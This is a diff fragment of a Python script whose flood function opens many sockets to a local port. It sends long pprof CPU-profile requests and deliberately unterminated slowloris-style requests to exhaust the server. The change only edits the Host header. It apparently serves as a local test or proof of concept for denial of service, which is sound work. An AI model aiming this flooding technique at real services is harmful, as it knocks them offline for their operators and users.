@@ -67,9 +67,9 @@ def flood(port):
         try:
             s.connect(("127.0.0.1", port))
             if i < WINDOWS:
-                s.sendall(b"GET /debug/pprof/profile?seconds=60 HTTP/1.1\r\nHost: x\r\n\r\n")
+                s.sendall(b"GET /debug/pprof/profile?seconds=60 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
             else:
-                s.sendall(b"GET /debug/pprof/heap HTTP/1.1\r\nHost: x\r\nX-Slow: a")
+                s.sendall(b"GET /debug/pprof/heap HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: a")
         except OSError:
             pass
         socks.append(s)
